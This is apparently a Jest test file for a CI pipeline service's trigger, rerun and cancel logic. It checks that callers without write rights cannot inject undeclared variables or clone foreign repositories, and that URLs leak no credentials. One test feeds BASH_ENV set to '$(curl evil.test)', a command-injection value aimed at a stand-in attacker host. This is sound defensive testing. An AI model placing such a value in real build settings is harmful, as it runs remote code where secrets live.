import { Logger } from '@nestjs/common';
import { standIn } from '../../../test/support/stand-in.js';
import { Metrics } from '../../common/metrics/metrics.js';
import { compileYaml } from '../../engine/compiler/compile-yaml.js';
import { freshReservation } from '../../idempotency/reservation.js';
import { MemoryEventBus } from '../../integrations/event-bus/memory-event-bus.js';
import { NoTracing } from '../../integrations/tracing/tracing.js';
import type { PipelineSource } from '../../pipelines/definitions/pipeline.schema.js';
import type { PipelinesService } from '../../pipelines/definitions/pipelines.service.js';
import { SCOPES_OF_ROLE, type Role, type Scope } from '../../auth/policy/policy.js';
import type { RepositoriesService } from '../../repositories/repositories.service.js';
import type { PlansService } from '../../pipelines/versions/plans.service.js';
import { CancelExecution } from '../ending/cancel-execution.js';
import { EndingFixture } from '../ending/ending.fixture.js';
import type { ExecutionPlacer } from '../placement/execution-placer.js';
import { CANCEL_TOPIC } from '../placement/execution-topics.js';
import { endedExecution, pendingExecution } from '../record/execution.fixture.js';
import type { ExecutionListsRepository } from '../record/execution-lists.repository.js';
import { LiveExecutions } from '../record/live-executions.js';
import { JustAccepted } from '../record/just-accepted.js';
import { MemoryExecutions } from '../record/memory-executions.fixture.js';
import { AcceptExecution } from './accept-execution.js';
import type { ExecutionNumbers } from './execution-numbers.js';
import { ExecutionsService } from './executions.service.js';

Logger.overrideLogger(false);

const PIPELINE = '0190a0b0-0000-7000-8000-00000000000a';
const { plan, definition } = compileYaml(`
name: p
runs_on: gpu
triggers: [{ manual: { inputs: { tag: { type: string, required: true } } } }]
stages: [{ name: a, steps: [{ name: x, run: "true" }] }]
`);
if (!plan || !definition) throw new Error('does not compile');
const withSecrets = compileYaml(`
name: p
repository: https://git.test/acme/shop.git
environment: { LEVEL: info }
secrets: [DEPLOY_KEY]
stages: [{ name: a, environment: { OF_STAGE: "1" }, steps: [{ name: x, run: "true", environment: { OF_STEP: "1" } }] }]
`).plan;
const withCredentials = compileYaml(`
name: p
repository: { url: https://git.test/acme/shop.git, credentials: TOKEN }
stages: [{ name: a, steps: [{ name: x, run: "true" }] }]
`).plan;
if (!withSecrets || !withCredentials) throw new Error('does not compile');

describe('ExecutionsService', () => {
  let executions: MemoryExecutions;
  let bus: MemoryEventBus;
  let metrics: Metrics;
  let service: ExecutionsService;
  let isEnabled: boolean | undefined;
  let isQueueThere: boolean;
  let events: string[];
  let current = plan;
  let source: PipelineSource | undefined;

  beforeEach(() => {
    source = undefined;
    current = plan;
    executions = new MemoryExecutions();
    bus = new MemoryEventBus();
    metrics = new Metrics();
    isEnabled = true;
    isQueueThere = true;
    events = [];
    jest.spyOn(bus, 'publish').mockImplementation(async (topic, message) => {
      events.push(`publish ${topic} ${message}`);
      if (!isQueueThere) throw new Error('away');
    });
    service = new ExecutionsService(
      standIn<PipelinesService>({
        getVersion: async () => ({
          pipelineId: PIPELINE,
          pipelineName: 'p',
          enabled: isEnabled === true,
          number: 7,
          planHash: 'hash',
          ...(source && { source }),
          plan: current,
          definition: { inputs: definition.inputs, triggers: [] },
        }),
        isEnabled: async () => isEnabled,
      }),
      standIn<PlansService>({ get: async () => plan }),
      standIn<RepositoriesService>({
        find: async () => undefined,
        withCloneUrl: async () => undefined,
      }),
      executions.repository,
      standIn<ExecutionListsRepository>({}),
      new AcceptExecution(
        executions.repository,
        standIn<ExecutionNumbers>({ next: async (_id, taken = 41) => taken + 1 }),
        standIn<ExecutionPlacer>({
          announceQueue: async (queue) => void events.push(`announce ${queue}`),
          offer: async ({ _id, enqueue_number }) => {
            // The document comes first: whoever takes the job must find it.
            events.push(`offer ${executions.stored(_id).status} ${enqueue_number}`);
            return isQueueThere;
          },
        }),
        metrics,
        new NoTracing(),
        new JustAccepted(),
      ),
      new CancelExecution(
        executions.repository,
        new EndingFixture(executions, bus, metrics).endings,
        bus,
      ),
      new LiveExecutions(bus),
    );
  });

  const inputs = { tag: 'v1' };
  const trigger = (
    request: Parameters<ExecutionsService['trigger']>[1] = {},
    reservation = freshReservation(),
    role: Role = 'developer',
  ) => {
    const caller = { id: 'ada', scopes: new Set(SCOPES_OF_ROLE[role]) };
    return service.trigger(PIPELINE, { inputs, ...request }, caller, reservation);
  };

  describe('trigger', () => {
    it('stores the execution in the queue of its labels, then offers it', async () => {
      const { executionId } = await trigger({ branch: 'main', environment: { A: '1' } });
      expect(events).toEqual(['announce gpu', 'offer pending 1']);
      expect(executions.stored(executionId)).toMatchObject({
        status: 'pending',
        reason: { code: 'queued' },
        pipeline_version: 7,
        plan_hash: 'hash',
        queue: 'gpu',
        inputs,
        environment: { A: '1' },
        trigger_info: { trigger_type: 'manual', triggered_by: 'ada', branch: 'main' },
        stages: [{ name: 'a', steps: [{ name: 'x', status: 'waiting' }] }],
      });
    });

    it('keeps what was asked for, and whose text it starts', async () => {
      const { executionId } = await trigger({ branch: 'main', commitHash: 'abcdef1' });
      expect(executions.stored(executionId).asked).toEqual({
        branch: 'main',
        commit_hash: 'abcdef1',
      });
      source = { repository_id: 'r', path: '.millrace.yml', branch: 'main' };
      const ofFile = await trigger({ tag: 'v1' });
      expect(executions.stored(ofFile.executionId).asked).toEqual({
        tag: 'v1',
        source: { repository_id: 'r', branch: 'main' },
      });
    });

    it('shows no credentials of the URL that it clones from', async () => {
      const repository = 'https://ada:secret@example.org/r.git';
      const { executionId } = await trigger({ repository });
      const { clone_url, trigger_info } = executions.stored(executionId);
      expect(clone_url).toBe(repository);
      expect(JSON.stringify(trigger_info)).not.toContain('secret');
    });

    describe('of a pipeline with secrets, by somebody who may not write pipelines', () => {
      const byProgram = (request: Parameters<typeof trigger>[0]) =>
        trigger(request, freshReservation(), 'service_account');
      beforeEach(() => {
        current = withSecrets;
      });

      it.each([
        ['secrets', withSecrets],
        ['credentials of its clone', withCredentials],
      ])('takes no variable that it does not declare: %s', async (_name, its) => {
        current = its;
        const environment = { BASH_ENV: '$(curl evil.test)', constructor: 'x' };
        await expect(byProgram({ environment })).rejects.toMatchObject({
          kind: 'AuthorizationError',
          details: {
            code: 'undeclared_variable',
            required_scope: 'pipelines:write',
            environment: ['BASH_ENV', 'constructor'],
          },
        });
        expect(events).toEqual([]);
      });

      it('takes those that any of its levels declares', async () => {
        const environment = { LEVEL: 'debug', OF_STAGE: '2', OF_STEP: '2' };
        const { executionId } = await byProgram({ environment });
        expect(executions.stored(executionId).environment).toEqual(environment);
      });

      it.each([
        'https://evil.test/acme/shop.git',
        'https://git.test/acme/other.git',
        'https://git.test/Acme/shop.git',
        'https://git.test:8443/acme/shop.git',
        'http://git.test/acme/shop.git',
        'ssh://git@git.test/acme/shop.git',
      ])('clones no other repository: %s', async (repository) => {
        await expect(byProgram({ repository })).rejects.toMatchObject({
          kind: 'AuthorizationError',
          details: { code: 'other_repository', repository },
        });
        expect(events).toEqual([]);
      });

      it('shows no credentials of the repository that it refuses', async () => {
        const refused = byProgram({ repository: 'https://ada:secret@evil.test/r.git' });
        await expect(refused).rejects.toMatchObject({
          message: expect.not.stringContaining('secret@'),
          details: { repository: 'https://***@evil.test/r.git' },
        });
      });

      it('clones its own, also with credentials of the caller', async () => {
        const repository = 'https://ada:secret@git.test/acme/shop';
        const { executionId } = await byProgram({ repository });
        expect(executions.stored(executionId).clone_url).toBe(repository);
      });

      it('without secrets, and by those who may write it, everything is taken', async () => {
        const request = {
          environment: { BASH_ENV: '/x' },
          repository: 'https://fork.test/acme/shop.git',
        };
        await trigger(request);
        current = plan;
        await byProgram(request);
      });
    });

    it('numbers executions, and counts on where a number is taken', async () => {
      const numbers = [];
      for (let each = 0; each < 3; each++) numbers.push((await trigger()).number);
      expect(numbers).toEqual([42, 43, 44]);
    });

    it('accepts without the queue, and says what it waits for', async () => {
      isQueueThere = false;
      const accepted = await trigger();
      expect(accepted.message).toContain('queue cannot be reached');
      expect(executions.stored(accepted.executionId).reason).toMatchObject({
        code: 'queue_unavailable',
      });
    });

    it('accepts nothing without the database', async () => {
      executions.failure = new Error('away');
      await expect(trigger()).rejects.toThrow('away');
    });

    it('makes of a repeated request no other execution, but the job that may be missing', async () => {
      const reservation = freshReservation();
      const { executionId } = await trigger({}, reservation);
      events.length = 0;
      isEnabled = false;
      const again = await trigger({ inputs: {} }, { ...reservation, repeated: true });
      expect(again.executionId).toBe(executionId);
      expect(events).toEqual(['offer pending 1']);
    });

    it('offers a repeated one no more once a worker has it', async () => {
      const reservation = freshReservation();
      await trigger({}, reservation);
      await executions.claim(reservation.id, { id: 'w', name: 'w' });
      events.length = 0;
      await trigger({}, { ...reservation, repeated: true });
      expect(events).toEqual([]);
    });

    it('completes a request whose first try came to nothing', async () => {
      const { executionId } = await trigger({}, { id: 'reserved', repeated: true });
      expect(executions.stored(executionId)._id).toBe('reserved');
    });

    it.each([
      ['a branch and a tag', { branch: 'a', tag: 'b' }, 'ValidationError'],
      ['a missing input', { inputs: {} }, 'UnprocessableError'],
    ])('refuses %s', async (_what, request, kind) => {
      await expect(trigger(request)).rejects.toMatchObject({ kind });
      expect(events).toEqual([]);
    });

    it('refuses a pipeline that is disabled', async () => {
      isEnabled = false;
      await expect(trigger()).rejects.toMatchObject({
        kind: 'ConflictError',
        details: { reason: { code: 'pipeline_disabled' } },
      });
    });
  });

  describe('rerun', () => {
    const bob = { id: 'bob', scopes: new Set<Scope>(['executions:trigger']) };
    const original = endedExecution('failed', {
      pipeline_version: 3,
      inputs: { tag: 'v0' },
      environment: { A: '2' },
      commit: { sha: 'cloned', message: 'm', author: 'a' },
    });
    const rerun = () => service.rerun(original._id, bob, freshReservation());

    it('runs the same plan with the same values at the commit that was cloned', async () => {
      await executions.insert(original);
      const { executionId } = await rerun();
      expect(executions.stored(executionId)).toMatchObject({
        pipeline_version: 3,
        inputs: original.inputs,
        environment: original.environment,
        rerun_of: original._id,
        trigger_info: {
          triggered_by: 'test',
          commit_hash: 'cloned',
          rerun_of: original._id,
          rerun_by: 'bob',
        },
      });
    });

    it('is asked for what its original was, and not for what that has cloned', async () => {
      const asked = { branch: 'main', source: { repository_id: 'r' } };
      await executions.insert({ ...original, asked });
      source = { repository_id: 'r', path: '.millrace.yml', branch: 'main' };
      const { executionId } = await rerun();
      expect(executions.stored(executionId).asked).toEqual(asked);
    });

    it('asks who may approve it where a pull request of another repository started it', async () => {
      const event = {
        repository_id: 'r',
        repository: 'acme/shop',
        default_branch: 'main',
        fork: true,
      };
      const trigger_info = { ...original.trigger_info, event };
      await executions.insert({ ...original, trigger_info });
      await expect(rerun()).rejects.toMatchObject({ kind: 'AuthorizationError' });
      const ada = { id: 'ada', scopes: new Set<Scope>(['deliveries:approve']) };
      const { executionId } = await service.rerun(original._id, ada, freshReservation());
      const { trigger_info: again } = executions.stored(executionId);
      expect(again.event).toMatchObject({ fork: true, approved_by: 'ada' });
    });

    it('runs an execution again whose pipeline was deleted', async () => {
      await executions.insert(original);
      isEnabled = undefined;
      await expect(rerun()).resolves.toBeDefined();
    });

    it('refuses what is not there, not over, or of a disabled pipeline', async () => {
      await expect(rerun()).rejects.toMatchObject({ kind: 'NotFoundError' });
      await executions.insert({ ...original, status: 'running' });
      await expect(rerun()).rejects.toMatchObject({ kind: 'ConflictError' });
      isEnabled = false;
      const over = endedExecution('success');
      await executions.insert(over);
      const again = service.rerun(over._id, bob, freshReservation());
      await expect(again).rejects.toMatchObject({
        details: { reason: { code: 'pipeline_disabled' } },
      });
    });
  });

  describe('cancel', () => {
    let id: string;
    beforeEach(async () => {
      id = pendingExecution()._id;
      await executions.insert(pendingExecution({ _id: id }));
    });

    it('ends at once what no worker has', async () => {
      await service.cancel(id, 'ada', 'wrong');
      expect(executions.stored(id)).toMatchObject({
        status: 'cancelled',
        reason: { message: 'Cancelled by ada: wrong.' },
      });
      expect(events).toEqual([`publish live.${id} end`]);
    });

    it('tells the worker that has it', async () => {
      await executions.claim(id, { id: 'w', name: 'w' });
      await service.cancel(id, 'ada', undefined);
      expect(executions.stored(id)).toMatchObject({
        status: 'running',
        cancel_requested: { by: 'ada' },
      });
      expect(events).toEqual([`publish ${CANCEL_TOPIC} ${id}`]);
    });

    it('is stored all the same when nobody can be told', async () => {
      await executions.claim(id, { id: 'w', name: 'w' });
      isQueueThere = false;
      await service.cancel(id, 'ada', undefined);
      expect(executions.stored(id).cancel_requested).toMatchObject({ by: 'ada' });
    });

    it('refuses what is not there, or over', async () => {
      await expect(service.cancel('x', 'ada', undefined)).rejects.toMatchObject({
        kind: 'NotFoundError',
      });
      const over = endedExecution('success');
      await executions.insert(over);
      await expect(service.cancel(over._id, 'ada', undefined)).rejects.toMatchObject({
        kind: 'ConflictError',
      });
    });

    it('is content with an execution that ended for this very request', async () => {
      jest
        .spyOn(executions, 'requestCancel')
        .mockImplementation(async (_id, cancel_requested) =>
          endedExecution('cancelled', { cancel_requested }),
        );
      await expect(service.cancel(id, 'ada', undefined)).resolves.toBeUndefined();
    });
  });
});
